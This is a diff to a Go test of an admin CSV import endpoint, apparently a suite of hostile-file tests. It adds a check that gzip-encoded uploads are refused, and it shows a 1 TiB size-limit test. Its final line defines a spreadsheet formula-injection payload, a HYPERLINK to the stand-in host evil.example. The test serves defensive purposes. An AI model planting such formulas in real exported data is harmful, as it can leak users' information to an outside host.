@@ -6,6 +6,7 @@ import (
 	"compress/gzip"
 	"encoding/json"
 	"fmt"
+	"mime/multipart"
 	"net"
 	"net/http"
 	"strings"
@@ -86,6 +87,21 @@ func TestImportHostileFiles(t *testing.T) {
 	_, _ = buf.ReadFrom(resp.Body)
 	resp.Body.Close()
 	checkRefusal(t, in, "a Content-Length of 1 TiB", resp.StatusCode, buf.Bytes(), 413, "file_too_large", "file")
+
+	// A compressed body (Content-Encoding) is refused, naming the header.
+	var mb bytes.Buffer
+	mw := multipart.NewWriter(&mb)
+	_ = mw.WriteField("mapping", contractMapping)
+	fw, _ := mw.CreateFormFile("file", "orders.csv")
+	_, _ = fw.Write([]byte(header + "\n" + row("g-1") + "\n"))
+	_ = mw.Close()
+	var gz bytes.Buffer
+	zw = gzip.NewWriter(&gz)
+	_, _ = zw.Write(mb.Bytes())
+	_ = zw.Close()
+	code, body := in.Do("POST", "/admin/v1/imports", gz.Bytes(), http.Header{"Authorization": {"Bearer " + in.AdminToken()},
+		"Content-Type": {mw.FormDataContentType()}, "Content-Encoding": {"gzip"}})
+	checkRefusal(t, in, "a gzip Content-Encoding", code, body, 415, "unsupported_content_encoding", "Content-Encoding")
 
 	// Imported, every good row kept.
 	formula := `"=HYPERLINK(""http://evil.example/?x="",""click"")"`
